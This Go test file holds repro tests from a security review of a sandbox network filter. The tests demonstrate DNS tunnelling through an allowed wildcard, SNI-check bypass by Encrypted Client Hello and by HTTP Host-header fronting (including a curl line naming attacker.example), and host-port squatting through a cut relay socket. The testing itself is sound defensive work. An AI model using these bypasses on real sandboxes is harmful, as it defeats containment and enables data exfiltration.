package netfilter

// Repro tests from an outside review of the filtered network's resolver
// and name policy (issue 18; branch rvdns). Each FAILS on purpose on the
// code it was written against, and passes once the finding is fixed. Only
// loopback servers the tests run are contacted.

import (
	"context"
	"crypto/ecdh"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
	"net/http/httptest"
	"net/netip"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// TestReviewDNSWildcardMadeUpNamesUnbounded: under an allowed wildcard
// every made-up name is looked up upstream, and a name that does not exist
// there (NXDOMAIN) is not entered in the address table, so MaxNames never
// fills and never stops the next one. docs/security.md says "past the
// table's 1024 names nothing more is looked up either", and the wildcard
// caveat reads as if the names that leave were bounded by that table; in
// fact a loop of "<data>.zone" queries sends an unbounded stream of
// sandbox-chosen labels to the host's resolver and the zone's servers
// (TestNoUpstreamPastNameCap only covers names that exist upstream).
func TestReviewDNSWildcardMadeUpNamesUnbounded(t *testing.T) {
	up := newFakeUpstream(t)
	const maxNames = 2
	f := newFilter(t, up, []string{"*.up.test"}, nil, nil, func(c *Config) { c.MaxNames = maxNames })
	defer f.Close()
	srv := serve(t, f)
	// The fake upstream answers NXDOMAIN for names starting "nothere.".
	const made = 24
	for i := range made {
		name := "nothere.c2VjcmV0LWRhdGE" + itoa(uint16(i)) + ".up.test."
		if rc, _ := query(t, srv, name, dnsmessage.TypeA, false); rc != dnsmessage.RCodeNameError && rc != dnsmessage.RCodeServerFailure {
			t.Fatalf("%s: %v", name, rc)
		}
	}
	// One lookup is an A and an AAAA query. A bound of MaxNames lookups
	// (plus the queries in flight at once) is what the table promises.
	n := up.queries.Load()
	if n > 2*(maxNames+1) {
		up.mu.Lock()
		t.Errorf("with MaxNames %d, %d made-up names under *.up.test made %d upstream queries (e.g. %q): names that do not exist never count against the bound, so DNS tunnelling through an allowed wildcard is unbounded",
			maxNames, made, n, up.names[len(up.names)-1])
		up.mu.Unlock()
	}
}

// TestReviewDNSNonexistentNameNotCached: an allowed name that does not
// exist upstream is not cached (only found names get an entry, kept
// relookAfter): a loop of queries for it is a loop of upstream lookups,
// MaxQueries at once with no bound on the rate, as TestUpstreamOncePerName
// found for existing names.
func TestReviewDNSNonexistentNameNotCached(t *testing.T) {
	up := newFakeUpstream(t)
	f := newFilter(t, up, []string{"nothere.up.test"}, nil, nil, nil)
	defer f.Close()
	srv := serve(t, f)
	for range 20 {
		if rc, _ := query(t, srv, "nothere.up.test.", dnsmessage.TypeA, false); rc != dnsmessage.RCodeNameError {
			t.Fatalf("nothere.up.test: %v", rc)
		}
	}
	if n := up.queries.Load(); n > 4 {
		t.Errorf("20 queries for one allowed name that does not exist made %d upstream queries: NXDOMAIN is not cached", n)
	}
}

// TestReviewDNSMalformedNameRefusedSilently: a query whose name is not a
// valid host name (NormalizeName refuses it: a "!", a space, a byte
// above 0x7f, a label starting with "-") gets NXDOMAIN and no refusal is
// reported: the issue asks that every refusal be reported with the name,
// and a sandbox probing with such names leaves no trace in --json-status
// or the audit. Nothing leaves the host (no upstream query): LOW.
func TestReviewDNSMalformedNameRefusedSilently(t *testing.T) {
	up := newFakeUpstream(t)
	var mu sync.Mutex
	var refused []string
	f := newFilter(t, up, []string{"*.up.test"}, nil, nil, func(c *Config) {
		c.OnRefusal = func(r *Refusal) { mu.Lock(); refused = append(refused, r.Target()); mu.Unlock() }
	})
	defer f.Close()
	srv := serve(t, f)
	if rc, _ := query(t, srv, "c2VjcmV0!data.evil.example.", dnsmessage.TypeA, false); rc != dnsmessage.RCodeNameError {
		t.Fatalf("rcode %v", rc)
	}
	if n := up.queries.Load(); n != 0 {
		t.Fatalf("%d upstream queries for a malformed name", n)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(refused) == 0 {
		t.Errorf("a lookup of a malformed name was refused (NXDOMAIN) without any refusal reported")
	}
}

// echConfig returns one ECHConfig (draft-ietf-tls-esni, version 0xfe0d)
// for an X25519 key, with publicName as the client-facing server's name,
// and the private key.
func echConfig(t *testing.T, publicName string) (config, priv []byte) {
	t.Helper()
	k, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	pub := k.PublicKey().Bytes()
	var c []byte
	c = append(c, 7)                             // config_id
	c = binary.BigEndian.AppendUint16(c, 0x0020) // DHKEM(X25519, HKDF-SHA256)
	c = binary.BigEndian.AppendUint16(c, uint16(len(pub)))
	c = append(c, pub...)
	c = binary.BigEndian.AppendUint16(c, 4)      // cipher suites
	c = binary.BigEndian.AppendUint16(c, 0x0001) // HKDF-SHA256
	c = binary.BigEndian.AppendUint16(c, 0x0001) // AES-128-GCM
	c = append(c, 0)                             // maximum_name_length
	c = append(c, byte(len(publicName)))
	c = append(c, publicName...)
	c = binary.BigEndian.AppendUint16(c, 0) // extensions
	config = binary.BigEndian.AppendUint16(nil, 0xfe0d)
	config = binary.BigEndian.AppendUint16(config, uint16(len(c)))
	config = append(config, c...)
	return config, k.Bytes()
}

// TestReviewDNSSNIBypassedByEncryptedClientHello: with CheckSNI the relay
// reads the ClientHello's clear server name only. A client that speaks
// Encrypted Client Hello puts the allowed name in the outer ClientHello
// (it is the client who chooses that name, not the CDN) and the site it
// really wants in the encrypted inner one; a client-facing server that
// holds the ECH key (a CDN such as the one registry.npmjs.org sits behind)
// decrypts it and serves the inner name. The relay lets it through: domain
// fronting, which CheckSNI exists to catch, is not caught. Here the
// "CDN" is a crypto/tls server with ECH keys whose public name is the
// allowed good.test; the connection asks, encrypted, for other.example.
func TestReviewDNSSNIBypassedByEncryptedClientHello(t *testing.T) {
	cfg, priv := echConfig(t, "good.test")
	var mu sync.Mutex
	var served []string
	// A certificate to serve (httptest's), for a TLS 1.3 server with
	// ECH keys whose public name is the allowed one.
	cert := httptest.NewTLSServer(nil)
	certs := cert.TLS.Certificates
	cert.Close()
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	serverCfg := &tls.Config{
		Certificates: certs,
		MinVersion:   tls.VersionTLS13,
		EncryptedClientHelloKeys: []tls.EncryptedClientHelloKey{{
			Config: cfg, PrivateKey: priv, SendAsRetry: true,
		}},
	}
	serverCfg.GetConfigForClient = func(h *tls.ClientHelloInfo) (*tls.Config, error) {
		mu.Lock()
		served = append(served, h.ServerName)
		mu.Unlock()
		return nil, nil
	}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				tc := tls.Server(c, serverCfg)
				tc.SetDeadline(time.Now().Add(30 * time.Second))
				if tc.Handshake() == nil {
					io.WriteString(tc, "served "+tc.ConnectionState().ServerName)
				}
			}()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).AddrPort().Port()

	up := newFakeUpstream(t)
	var refusals []string
	f := newFilter(t, up, []string{"good.test:" + itoa(port)}, nil, []string{"good.test:127.0.0.1"}, func(c *Config) {
		c.CheckSNI, c.SNIPorts = true, []uint16{port}
		c.OnRefusal = func(r *Refusal) { mu.Lock(); refusals = append(refusals, r.Reason); mu.Unlock() }
	})
	defer f.Close()
	v := resolveVia(t, serve(t, f), "good.test")
	verdict, err := f.Connect(context.Background(), netip.AddrPortFrom(v, port), Socket{Family: unix.AF_INET, Type: unix.SOCK_STREAM, FD: -1})
	if err != nil || verdict.Action != Install {
		t.Fatalf("connect: %+v %v", verdict, err)
	}
	file := os.NewFile(uintptr(verdict.Conn.Release()), "installed")
	fc, err := net.FileConn(file)
	file.Close()
	if err != nil {
		t.Fatal(err)
	}
	defer fc.Close()
	fc.SetDeadline(time.Now().Add(30 * time.Second))
	list := binary.BigEndian.AppendUint16(nil, uint16(len(cfg)))
	list = append(list, cfg...)
	tc := tls.Client(fc, &tls.Config{
		ServerName: "other.example", InsecureSkipVerify: true, MinVersion: tls.VersionTLS13,
		EncryptedClientHelloConfigList: list,
	})
	herr := tc.Handshake()
	var body []byte
	if herr == nil {
		body, _ = io.ReadAll(tc)
	}
	mu.Lock()
	defer mu.Unlock()
	if herr == nil && strings.Contains(string(body), "other.example") {
		t.Errorf("CheckSNI let a fronted connection through: outer SNI good.test, encrypted inner SNI other.example; the server says %q (names it saw: %q; refusals: %q)", body, served, refusals)
	} else if len(refusals) == 0 {
		t.Errorf("the ECH connection failed (%v) but no refusal was reported", herr)
	}
}

// TestReviewDNSCheckSNILeavesPort80Fronted: a bare pattern allows ports
// 80 and 443 (DefaultPorts), and CheckSNI checks 443 only
// (DefaultSNIPorts). On port 80 the same CDN address routes by the HTTP
// Host header, in clear: `--check-sni --allow-host registry.npmjs.org`
// still lets `curl -H 'Host: attacker.example' http://registry.npmjs.org/`
// reach any site on that CDN, so turning the check on does not stop
// fronting under the default ports. Root only (port 80 of the host's
// loopback); skipped when that port is taken.
func TestReviewDNSCheckSNILeavesPort80Fronted(t *testing.T) {
	ln, err := net.Listen("tcp4", "127.0.0.1:80")
	if err != nil {
		t.Skipf("needs 127.0.0.1:80 of the host (root, port free): %v", err)
	}
	defer ln.Close()
	hosts := make(chan string, 1)
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(30 * time.Second))
		buf := make([]byte, 512)
		n, _ := c.Read(buf)
		defer close(hosts)
		for _, l := range strings.Split(string(buf[:n]), "\r\n") {
			if h, ok := strings.CutPrefix(l, "Host: "); ok {
				hosts <- h
				return
			}
		}
	}()
	up := newFakeUpstream(t)
	var refusals []*Refusal
	f := newFilter(t, up, []string{"good.test"}, nil, []string{"good.test:127.0.0.1"}, func(c *Config) {
		c.CheckSNI = true // SNIPorts left at the default, as --check-sni does
		c.OnRefusal = func(r *Refusal) { refusals = append(refusals, r) }
	})
	defer f.Close()
	v := resolveVia(t, serve(t, f), "good.test")
	verdict, err := f.Connect(context.Background(), netip.AddrPortFrom(v, 80), Socket{Family: unix.AF_INET, Type: unix.SOCK_STREAM, FD: -1})
	if err != nil || verdict.Action != Install {
		// Refused: port 80 is not open to fronting.
		return
	}
	fd := verdict.Conn.Release()
	defer unix.Close(fd)
	if _, err := unix.Write(fd, []byte("GET / HTTP/1.1\r\nHost: attacker.example\r\n\r\n")); err != nil {
		t.Fatal(err)
	}
	select {
	case h, ok := <-hosts:
		if ok && h == "attacker.example" {
			t.Errorf("with CheckSNI on and the default ports, a plain HTTP request to good.test:80 asking for Host %q reached the server unchecked (refusals: %v)", h, refusals)
		}
	case <-time.After(30 * time.Second):
		// Deadlock guard: nothing reached the server.
	}
}

// TestReviewDNSSNIRelaySocketSquatsHostPort: with CheckSNI the socket
// installed in the sandbox is loopbackPair's client end, a TCP socket of
// the host's network namespace whose local port the kernel picked at
// connect (no bindLocked, unlike dial's sockets). When the relay cuts the
// connection (any refused ClientHello: here plain HTTP on the SNI port),
// the socket reaches TCP_CLOSE and the kernel gives that port back
// (inet_put_port: no SOCK_BINDPORT_LOCK). bind(2) is not trapped, so the
// sandbox can then bind its host socket to a host port of its choosing,
// which a host service then fails to bind (EADDRINUSE): the squat
// TestConnectPortStaysTheSockets closed for dialled sockets, open again
// through the relay.
func TestReviewDNSSNIRelaySocketSquatsHostPort(t *testing.T) {
	echo := echoServer(t)
	up := newFakeUpstream(t)
	f := newFilter(t, up, []string{"good.test:" + itoa(echo.Port())}, nil, []string{"good.test:127.0.0.1"}, func(c *Config) {
		c.CheckSNI, c.SNIPorts = true, []uint16{echo.Port()}
	})
	defer f.Close()
	v := resolveVia(t, serve(t, f), "good.test")
	verdict, err := f.Connect(context.Background(), netip.AddrPortFrom(v, echo.Port()), Socket{Family: unix.AF_INET, Type: unix.SOCK_STREAM, FD: -1})
	if err != nil || verdict.Action != Install {
		t.Fatalf("connect: %+v %v", verdict, err)
	}
	fd := verdict.Conn.Release()
	defer unix.Close(fd)
	// Not a ClientHello: the relay refuses and closes its end (with
	// unread data: a reset).
	if _, err := unix.Write(fd, []byte("GET / HTTP/1.0\r\n\r\n")); err != nil {
		t.Fatal(err)
	}
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 30})
	unix.Read(fd, make([]byte, 64))
	// A FIN instead of a reset: finish the close from this side (a
	// shutdown of a connected socket is allowed by the trap).
	unix.Shutdown(fd, unix.SHUT_WR)
	deadline := time.Now().Add(30 * time.Second) // deadlock guard only
	for {
		info, err := unix.GetsockoptTCPInfo(fd, unix.IPPROTO_TCP, unix.TCP_INFO)
		if err != nil {
			t.Fatal(err)
		}
		if info.State == 7 { // TCP_CLOSE
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the relayed socket never closed (state %d)", info.State)
		}
		time.Sleep(10 * time.Millisecond)
	}
	free, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := free.Addr().(*net.TCPAddr).Port
	free.Close()
	err = unix.Bind(fd, &unix.SockaddrInet4{Port: port, Addr: [4]byte{127, 0, 0, 1}})
	if err == unix.EINVAL {
		return // its own port kept: fixed
	}
	if err != nil {
		t.Fatalf("bind: %v", err)
	}
	_, lerr := net.Listen("tcp4", "127.0.0.1:"+itoa(uint16(port)))
	t.Errorf("the relay's host socket, after the relay cut it, was bound to host port %d of the sandbox's choosing; a host service binding it then gets: %v", port, lerr)
}

// TestReviewDNSSNIRelaySquatsPastConnCap: the cut relay socket of
// TestReviewDNSSNIRelaySocketSquatsHostPort is counted only while its
// relay lives (reserve counts relays, not the installed end): once cut
// and bound, it holds its host port outside MaxConns. Repeated, a sandbox
// binds as many host ports as its RLIMIT_NOFILE allows, the ephemeral
// range among them (a port bound by bind(2) is skipped by every host
// connect's port choice), with sockets charged to the supervisor.
func TestReviewDNSSNIRelaySquatsPastConnCap(t *testing.T) {
	echo := echoServer(t)
	up := newFakeUpstream(t)
	const maxConns = 2
	f := newFilter(t, up, []string{"good.test:" + itoa(echo.Port())}, nil, []string{"good.test:127.0.0.1"}, func(c *Config) {
		c.CheckSNI, c.SNIPorts, c.MaxConns = true, []uint16{echo.Port()}, maxConns
	})
	defer f.Close()
	v := resolveVia(t, serve(t, f), "good.test")
	squatted := 0
	for range 3 * maxConns {
		verdict, err := f.Connect(context.Background(), netip.AddrPortFrom(v, echo.Port()), Socket{Family: unix.AF_INET, Type: unix.SOCK_STREAM, FD: -1})
		if err != nil || verdict.Action != Install {
			break // the cap held
		}
		fd := verdict.Conn.Release()
		defer unix.Close(fd)
		unix.Write(fd, []byte("GET / HTTP/1.0\r\n\r\n"))
		unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 30})
		unix.Read(fd, make([]byte, 64))
		unix.Shutdown(fd, unix.SHUT_WR)
		deadline := time.Now().Add(30 * time.Second) // deadlock guard only
		for {
			info, err := unix.GetsockoptTCPInfo(fd, unix.IPPROTO_TCP, unix.TCP_INFO)
			if err != nil || info.State == 7 || time.Now().After(deadline) {
				break
			}
			time.Sleep(10 * time.Millisecond)
		}
		// Wait for the relay to be dropped (deadlock guard only).
		for time.Now().Before(deadline) {
			f.mu.Lock()
			n := len(f.relays)
			f.mu.Unlock()
			if n == 0 {
				break
			}
			time.Sleep(10 * time.Millisecond)
		}
		if unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}, Port: 0}) == nil {
			// Port 0: the kernel picks a free one; the point is that
			// the socket holds a host port again, uncounted.
			squatted++
		}
	}
	if squatted > maxConns {
		t.Errorf("with MaxConns %d the sandbox holds %d host sockets bound to host ports of its choosing (cut SNI relays are not counted)", maxConns, squatted)
	}
}
